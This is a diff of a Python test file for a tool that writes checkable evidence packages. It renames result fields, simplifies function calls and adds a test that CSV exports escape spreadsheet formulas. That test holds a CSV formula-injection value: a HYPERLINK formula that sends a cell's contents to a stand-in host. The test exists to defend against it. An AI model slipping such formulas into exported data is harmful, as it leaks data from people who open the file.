@@ -8,26 +8,27 @@ import re
 import shutil
 import subprocess
 from base64 import b64decode
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
-from typing import Any
 
 import pytest
 from sqlalchemy import text
 
 from datasets.errors import CaseDamaged, CaseExists, PackageDamaged, ResultError, UsageError
 from datasets.registry import Registry
-from evidence.answer.bag import write_tables
 from evidence.answer.case import read_case
-from evidence.answer.package import recompute, write_package
+from evidence.answer.package import COUNTED, recompute, write_package, write_tables
 from evidence.answer.question import Question
-from evidence.answer.report import render_answer, write_pdf
+from evidence.answer.report import render_answer
 from evidence.case.case import Case
 from evidence.case.pack import pack
 from evidence.case.queue import FootageSource, add_work
 from evidence.case.tables import Item, Recipe
 from evidence.case.unpack import unpack
+from evidence.pdf import write_pdf
 from tests.evidence.answer.conftest import Builder, judge_all
+from tests.evidence.answer.made import ONE, drawn
 from tests.evidence.case.conftest import encoded
 
 Build = Callable[[Callable[[Builder], object]], object]
@@ -43,6 +44,7 @@ def fill(b: Builder) -> None:
         b.add(f"Plant {plant}", claim="mazak", outcome="accept", chance=0.05)
         b.add(f"Plant {plant}", outcome="concealed")
     b.add("studio", claim="dmtg")
+    b.control(37)
     for plant in range(12):
         b.frame(f"Plant {plant}", "nothing" if plant else "missed", views=2)
     judge_all(b.session)
@@ -68,16 +70,14 @@ def package(
     if kind not in made:
         build(fill)
         folder = tmp_path_factory.mktemp("package")
-        listed = folder / "controls.csv"
-        listed.write_text("path,builder\n/archive/37.mp4,dmtg\n", "utf-8")
-        write_package(case, Question(), registry, "Chinese", folder / "package", listed)
+        write_package(case, Question(), registry, folder / "package")
         made[kind] = folder / "package"
     return shutil.copytree(made[kind], tmp_path / "package")
 
 
 def test_every_number_comes_out_the_same(package: Path) -> None:
-    found, otherwise, *_ = recompute(package)
-    assert otherwise == []
+    found, differences, *_ = recompute(package)
+    assert differences == []
     assert found.counts.confirmed == 12
     assert found.controls.of == 1
     assert (found.missed.judged, found.missed.missed) == (12, 1)
@@ -95,7 +95,7 @@ def test_a_number_that_was_changed_is_found(package: Path) -> None:
     with pytest.raises(PackageDamaged, match=r"data/answer\.json was altered"):
         recompute(package)
     bagit.Bag(str(package)).save(manifests=True)
-    otherwise = recompute(package).otherwise
+    otherwise = recompute(package).differences
     assert otherwise == ["counts.confirmed: 13 in the package, 12 computed"]
 
 
@@ -133,7 +133,7 @@ def test_a_case_in_it_that_contradicts_itself_is_found(
     package: Path, statement: str, told: str
 ) -> None:
     contradict(package, statement)
-    otherwise = recompute(package).otherwise
+    otherwise = recompute(package).differences
     assert any(told in line for line in otherwise), otherwise
 
 
@@ -147,7 +147,7 @@ def test_what_an_answer_was_computed_from_is_compared_too(package: Path) -> None
     said["facts"] |= {"verdicts": verdicts + 1, "head": "ab" * 32}
     file.write_text(json.dumps(said), "utf-8")
     bagit.Bag(str(package)).save(manifests=True)
-    head, number = recompute(package).otherwise
+    head, number = recompute(package).differences
     assert head.startswith(f"facts.head: '{'ab' * 32}' in the package")
     assert number == f"facts.verdicts: {verdicts + 1} in the package, {verdicts} computed"
 
@@ -164,7 +164,7 @@ def test_no_package_is_made_of_a_case_that_contradicts_itself(
 
     build(fill)
     with pytest.raises(CaseDamaged, match=r"contradicts itself: item .* does not agree") as raised:
-        write_package(case, Question(), registry, "Chinese", tmp_path / "package")
+        write_package(case, Question(), registry, tmp_path / "package")
     assert str(case.folder) in str(raised.value)
     assert "`nameplate case check` says what to do" in str(raised.value)
     assert list(tmp_path.glob("*package*")) == []
@@ -222,14 +222,14 @@ def test_a_picture_that_is_no_longer_what_it_was_is_told_of_and_not_shown(
 
     build(fill)
     harm(case.still(lost, "jpg"))
-    read, lacking = write_package(case, Question(), registry, "Chinese", tmp_path / "package")
+    read, lacking = write_package(case, Question(), registry, tmp_path / "package")
     (line,) = lacking
     assert line.startswith(f"stills/{lost[:2]}/{lost}.jpg: not in it")
-    assert recompute(tmp_path / "package").otherwise == lacking
+    assert recompute(tmp_path / "package").differences == lacking
     assert line in (tmp_path / "package" / "data" / "README.txt").read_text("utf-8")
-    live = read_case(case, Question(), registry, "Chinese")
+    live = read_case(case, Question(), registry)
     for exhibits in (read.exhibits, live.exhibits):
-        page = render_answer(live.answer, registry, live.facts, exhibits)
+        page = render_answer(replace(live, exhibits=exhibits), registry)
         (shown,) = re.findall(r'src="data:image/jpeg;base64,([^"]*)"', page)
         assert b64decode(shown) == pictures[0]
         assert f"no longer what it was: best <code>{lost[:12]}</code>" in page
@@ -242,84 +242,49 @@ def test_any_program_checks_it(package: Path) -> None:
         )
 
 
-def test_a_number_is_followed_to_its_rows(package: Path) -> None:
-    data = package / "data"
+def read_table(package: Path, name: str) -> list[dict[str, str]]:
+    with (package / "data" / "tables" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
 
-    def table(name: str) -> list[dict[str, str]]:
-        with (data / "tables" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
-            return list(csv.DictReader(file))
 
-    confirmed = [one for one in table("counted") if one["settled"] == one["hit"] == "true"]
-    assert (
-        len(confirmed)
-        == json.loads((data / "answer.json").read_bytes())["answer"]["counts"]["confirmed"]
-    )
-    sightings = {one["key"]: one for one in table("sightings")}
-    originals = {one["sha256"] for one in table("footage")}
-    settled = {one["sighting"] for one in table("items") if one["state"] == "settled"}
+def test_a_number_is_followed_to_its_footage(package: Path) -> None:
+    counted = read_table(package, "counted")
+    assert len(counted) == 36
+    confirmed = [one for one in counted if one["settled"] == one["hit"] == "true"]
+    said = json.loads((package / "data" / "answer.json").read_bytes())["answer"]
+    assert len(confirmed) == said["counts"]["confirmed"]
+    originals = {one["sha256"] for one in read_table(package, "footage")}
+    judged = {one["footage"] for one in read_table(package, "verdicts")}
     for machine in confirmed:
-        keys = [m["sighting"] for m in table("memberships") if m["machine"] == machine["id"]]
-        assert {sightings[key]["footage"] for key in keys} <= originals
-        assert set(keys) & settled
-    (recipe,) = json.loads((data / "settings.json").read_bytes())["recipes"]
-    assert recipe["model"] == sightings[keys[0]]["model"]
-    assert "scipy" in json.loads((data / "software.json").read_bytes())["packages"]
+        shown = set(json.loads(machine["footage"]))
+        assert shown and shown <= originals and shown & judged
 
 
 def test_it_says_what_it_is_in_plain_words(package: Path) -> None:
     data = package / "data"
     words = (data / "README.txt").read_text("utf-8")
-    for file in data.iterdir():
-        assert file.name in words or f"{file.name}/" in words
-    for table in (data / "tables").glob("*.csv"):
-        assert f"\n{table.stem}: " in words
-        with table.open(encoding="utf-8", newline="") as file:
-            columns = next(csv.reader(file))
-        assert [name for name in columns if not re.search(rf"\b{name}\b", words)] == []
-    assert "with `settled` and `hit` true and `replaced` false, and" in words
+    files = [path.relative_to(data).as_posix() for path in data.rglob("*") if path.is_file()]
+    assert len(files) == 11 and [name for name in files if f"\n{name} " not in words] == []
+    explained = re.findall(r"^(\w+)  ", words.partition("counted.csv\n====")[2], re.MULTILINE)
+    assert tuple(explained) == COUNTED
     assert "NOT the model" in words
 
 
-def test_tables_are_for_any_program(package: Path) -> None:
-    tables = package / "data" / "tables"
-    with (tables / "counted.csv").open(encoding="utf-8") as file:
-        rows = list(csv.DictReader(file))
-    assert len(rows) == 36
-    assert {row["stratum"] for row in rows} == {"claimed", "named", "unread"}
-    with (tables / "sightings.csv").open(encoding="utf-8") as file:
-        sightings = list(csv.DictReader(file))
-    assert len(sightings) == 37 and {row["pts"] for row in sightings} == {"1"}
+FORMULA = '=HYPERLINK("http://example.org/?" & A1, "Plant 1")'
 
 
-def test_the_crate_names_every_file(package: Path) -> None:
-    data = package / "data"
-    crate = json.loads((data / "ro-crate-metadata.json").read_bytes())
-    named = {one["@id"] for one in crate["@graph"] if one["@type"] == "File"}
-    there = {path.relative_to(data).as_posix() for path in data.rglob("*") if path.is_file()}
-    assert named == there - {"ro-crate-metadata.json"}
-    known = {one["@id"] for one in crate["@graph"]}
-    assert len(known) == len(crate["@graph"])
-    assert set(referred(crate["@graph"])) - known == {"https://w3id.org/ro/crate/1.1"}
-    (root,) = (one for one in crate["@graph"] if one["@id"] == "./")
-    assert {"name", "description", "datePublished", "license"} <= root.keys()
-    actions = {one["@id"] for one in crate["@graph"] if one["@type"] == "CreateAction"}
-    assert actions == {"#computing"}
-    # RO-Crate 1.1 does not know the word, and who reads JSON-LD drops what no context defines.
-    theirs, ours = crate["@context"]
-    assert theirs == "https://w3id.org/ro/crate/1.1/context"
-    assert ours == {"sha256": "http://schema.org/sha256"}
-
-
-def referred(value: Any) -> Iterator[str]:
-    """Every entity that another one names."""
-    if isinstance(value, list):
-        for one in value:
-            yield from referred(one)
-    elif isinstance(value, dict):
-        if value.keys() == {"@id"}:
-            yield value["@id"]
-        for one in value.values():
-            yield from referred(one)
+def test_no_cell_is_a_formula(case: Case, build: Build, tmp_path: Path) -> None:
+    build(lambda b: (b.add(FORMULA, claim="mazak"), b.add("-2", claim="haas")))
+    with case.snapshot() as session:
+        write_tables(session, [drawn(ONE, 0.02)], tmp_path)
+    with (tmp_path / "locations.csv").open(newline="") as file:
+        claimed = {row["plant_claimed"] for row in csv.DictReader(file)}
+    assert claimed == {f"'{FORMULA}", "'-2"}
+    with (tmp_path / "counted.csv").open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert (row["chance"], row["stated"], row["hit"], row["recordings"]) == (
+        "0.02", "true", "", '["a"]'
+    )  # fmt: skip
 
 
 def test_what_waits_to_be_looked_at_waits_in_a_package_too(
@@ -332,18 +297,16 @@ def test_what_waits_to_be_looked_at_waits_in_a_package_too(
     recipe = build(fill)
     with case.session() as session, session.begin():
         add_work(session, recipe, [FootageSource("/archive/more.mp4", 1, 1)])
-    there = read_case(case, Question(), registry, "Chinese").answer
-    here = write_package(case, Question(), registry, "Chinese", tmp_path / "package")[0].answer
+    there = read_case(case, Question(), registry).answer
+    here = write_package(case, Question(), registry, tmp_path / "package")[0].answer
     assert (here.caveat("not_looked_at"), here.caveat("set_aside")) == (1, 0)
     assert here.counts == there.counts and here.warnings == there.warnings
-    with (tmp_path / "package" / "data" / "tables" / "work.csv").open(newline="") as file:
-        assert [row["kind"] for row in csv.DictReader(file)] == ["packed"]
-    assert recompute(tmp_path / "package").otherwise == []
+    assert recompute(tmp_path / "package").differences == []
 
 
 def test_nothing_is_written_over(package: Path, case: Case, registry: Registry) -> None:
     with pytest.raises(CaseExists):
-        write_package(case, Question(), registry, "Chinese", package)
+        write_package(case, Question(), registry, package)
 
 
 def test_what_is_no_package(tmp_path: Path) -> None:
@@ -364,7 +327,7 @@ def test_what_cannot_be_written_says_what_to_do(
     (tmp_path / "file").write_text("", "utf-8")
     told = "file/answer: it could not be written .*; move away what is in its way$"
     with pytest.raises(ResultError, match=told):
-        write_package(case, Question(), registry, "Chinese", tmp_path / "file" / "answer")
+        write_package(case, Question(), registry, tmp_path / "file" / "answer")
     (tmp_path / "a.pdf").symlink_to("/dev/full")
     told = r"a\.pdf: it could not be written .*; free some space$"
     with pytest.raises(ResultError, match=told):
